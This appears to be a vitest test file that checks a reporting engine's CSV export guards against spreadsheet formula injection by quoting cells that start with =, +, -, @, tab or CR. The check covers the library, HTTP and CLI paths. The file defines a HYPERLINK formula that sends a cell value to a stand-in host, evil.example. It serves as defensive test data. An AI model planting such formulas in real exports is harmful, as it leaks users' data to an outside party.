import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openEngine } from '../src/open-engine.ts';
import type { Engine } from '../src/library/engine.ts';
import { spreadsheetText } from '../src/formats/csv.ts';
import { sampleDir } from '../src/generate/sample.ts';
import { sql } from '../src/query/sql.ts';
import { aeaInProcess } from './helpers/cli.ts';
import { query, sampleIds } from './helpers/sample-org.ts';
import { post, startServer, type TestServer } from './helpers/server.ts';
import { tempDir } from './helpers/tmp.ts';

/** A topic name any key of the organization may set, which reaches every colleague's CSV by topic. */
const attack = '=HYPERLINK("http://evil.example/?"&A2,"Open")';
/** The same cell as the CSV writes it: quoted (it has a comma and quotes), quotes doubled. */
const quotedCell = (text: string) => `"${text.replaceAll('"', '""')}"`;

let engine: Engine;
let server: TestServer;
let ids: Awaited<ReturnType<typeof sampleIds>>;
let key: string;
let state: string;

const body = () => ({
  category_id: ids.category,
  start_date: '2026-01-01',
  end_date: '2026-10-31',
  scope: 'all',
  group_by: ['topic'],
  limit: 50,
});

beforeAll(async () => {
  state = join(await tempDir('aea-csv-formula-'), 'state.duckdb');
  engine = await openEngine({ data: sampleDir, state, threads: 1, connections: 2 });
  ids = await sampleIds(engine);
  const page = (await engine.org(ids.org).report('visibility')(body())) as { data: { topic: { id: string } }[] };
  const topic = page.data[0]!.topic.id;
  const [prompt] = await query(engine, sql`SELECT id FROM prompts WHERE topic_id = ${topic} ORDER BY id LIMIT 1`);
  await engine.org(ids.org).resources.updatePrompts!({
    params: { category_id: ids.category },
    body: { prompts: [{ id: prompt!.id, topic: { id: topic, name: attack } }] },
  });
  server = await startServer(engine, { rateLimit: false });
  key = await server.key(ids.org);
});
afterAll(async () => {
  await server?.close();
  await engine?.close();
});

describe('spreadsheetText', () => {
  it('prefixes a text that starts with =, +, -, @, tab or CR with a quote, and nothing else', () => {
    for (const s of ['=1+1', '+1', '-2', '@SUM(A1)', '\t=1', '\r=1']) expect(spreadsheetText(s)).toBe(`'${s}`);
    for (const s of ['plain', ' =1', 'a=b', '', "'quoted"]) expect(spreadsheetText(s)).toBe(s);
    expect(spreadsheetText(null)).toBeNull();
  });
});

describe('CSV for spreadsheets', () => {
  it('writes a formula-like text cell with a leading quote by default, and as stored with csvRaw', async () => {
    const guarded = (await engine.org(ids.org).report('visibility')(body(), { format: 'csv' })) as string;
    expect(guarded).toContain(quotedCell(`'${attack}`));
    expect(guarded).not.toContain(`,${quotedCell(attack)}`);
    const raw = (await engine.org(ids.org).report('visibility')(body(), { format: 'csv', csvRaw: true })) as string;
    expect(raw).toContain(`,${quotedCell(attack)}`);
  });

  it('leaves numbers alone, negative ones included: only text cells are guarded', async () => {
    const csv = (await engine.org(ids.org).report('visibility')(
      { ...body(), start_date: '2026-06-01', group_by: [] },
      { format: 'csv', compare: 'previous_period' },
    )) as string;
    const [header, ...lines] = csv.trim().split('\n');
    const changes = header!.split(',').flatMap((name, i) => (name.endsWith('_change') ? [i] : []));
    const values = lines.flatMap((l) => changes.map((i) => l.split(',')[i]!)).filter((v) => v !== '');
    expect(values.some((v) => v.startsWith('-'))).toBe(true);
    expect(values.every((v) => Number.isFinite(Number(v)))).toBe(true);
  });

  it('HTTP: guarded by default, raw with csv_raw=true; a bad csv_raw is a 422 naming it', async () => {
    const url = `${server.url}/v2/reports/visibility`;
    const headers = { 'x-api-key': key, accept: 'text/csv' };
    const guarded = await post(url, body(), headers);
    expect(guarded.status).toBe(200);
    expect(await guarded.text()).toContain(quotedCell(`'${attack}`));
    const raw = await post(`${url}?csv_raw=true`, body(), headers);
    expect(await raw.text()).toContain(`,${quotedCell(attack)}`);
    const bad = await post(`${url}?csv_raw=maybe`, body(), headers);
    expect(bad.status).toBe(422);
    expect(((await bad.json()) as { detail: { loc: unknown }[] }).detail[0]!.loc).toEqual(['query', 'csv_raw']);
  });

  it('CLI: guarded by default, raw with --csv-raw', async () => {
    await engine.close();
    const args = [
      'query',
      '/v2/reports/visibility',
      '--data',
      sampleDir,
      '--state',
      state,
      '--org',
      ids.org,
      '--body',
      JSON.stringify(body()),
      '--format',
      'csv',
    ];
    const guarded = await aeaInProcess(args);
    expect(guarded.code).toBe(0);
    expect(guarded.stdout).toContain(quotedCell(`'${attack}`));
    const raw = await aeaInProcess([...args, '--csv-raw']);
    expect(raw.stdout).toContain(`,${quotedCell(attack)}`);
  });
});
